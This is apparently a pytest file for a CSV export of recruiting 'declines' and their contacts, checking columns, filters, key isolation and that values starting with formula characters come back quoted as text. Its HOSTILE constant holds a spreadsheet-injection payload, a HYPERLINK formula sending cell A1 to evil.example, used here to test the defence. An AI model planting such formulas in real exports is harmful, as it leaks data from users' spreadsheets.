"""Declines as CSV: what a spreadsheet opens, one row per contact, formulas never run."""

from __future__ import annotations

import csv
import io

from fastapi.testclient import TestClient

from tests.factories import auth, decline_body, new_api_key
from tests.waiting import wait_settled

HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'


def _rows(client: TestClient, token: str, **params: str) -> list[dict[str, str]]:
    response = client.get("/v1/declines.csv", params=params, headers=auth(token))
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    disposition = response.headers["content-disposition"]
    assert disposition.startswith('attachment; filename="declines-') and disposition.endswith(
        '.csv"'
    )
    return list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))


def _decline(client: TestClient, token: str, **overrides: object) -> dict[str, object]:
    response = client.post("/v1/declines", json=decline_body(**overrides), headers=auth(token))
    assert response.status_code == 201, response.text
    return wait_settled(client, token, response.json()["id"])


def test_one_row_per_contact_with_what_happened(client: TestClient, token: str) -> None:
    decline = _decline(client, token)
    contact = decline["contacts"][0]  # type: ignore[index]
    call = client.post(
        f"/v1/contacts/{contact['id']}/calls", json={"outcome": "reached"}, headers=auth(token)
    )
    assert call.status_code == 200, call.text
    rows = _rows(client, token)
    assert [r["contact_email"] for r in rows] == ["charles@engines.example", "mary@engines.example"]
    first = rows[0]
    assert first["decline_id"] == decline["id"]
    assert first["company"] == "Analytical Engines Ltd"
    assert first["job_title"] == "Principal Engineer"
    assert first["candidate_name"] == "Ada Lovelace"
    assert first["contact_name"] == "Charles Babbage" and first["contact_role"] == "recruiter"
    assert first["message_status"] == "sent" and first["sent_at"]
    assert first["last_call_outcome"] == "reached" and first["call_attempts"] == "1"
    assert rows[1]["last_call_outcome"] == ""


def test_a_hostile_name_reads_back_as_text_not_a_formula(client: TestClient, token: str) -> None:
    body = decline_body()
    body["contacts"][0]["name"] = HOSTILE
    body["contacts"][1]["name"] = "Zoë Ñúñez"
    _decline(client, token, contacts=body["contacts"], company='@Acme, "Quoted" Inc')
    rows = _rows(client, token)
    assert rows[0]["contact_name"] == "'" + HOSTILE
    assert rows[1]["contact_name"] == "Zoë Ñúñez"
    # Commas and quotes survive the round trip; only a formula start is quoted.
    assert rows[0]["company"] == '\'@Acme, "Quoted" Inc'
    # Phone numbers are stored as +44...: a spreadsheet would read them as a sum.
    assert rows[0]["contact_phone"].startswith("'+44")


def test_same_filters_as_the_list_and_only_this_keys(
    client: TestClient, token: str, database_url: str
) -> None:
    _decline(client, token)
    other = _decline(client, token, company="Difference Engines plc")
    rows = _rows(client, token, company="difference")
    assert {r["decline_id"] for r in rows} == {other["id"]}
    assert _rows(client, token, contact_email="nobody@nowhere.example") == []
    assert _rows(client, token, status="canceled") == []
    assert len(_rows(client, token, status="sent")) == 4
    assert _rows(client, new_api_key(database_url, name="someone else")) == []
    bad = client.get("/v1/declines.csv", params={"status": "lost"}, headers=auth(token))
    assert bad.status_code == 422
    assert bad.headers["content-type"].startswith("application/problem+json")
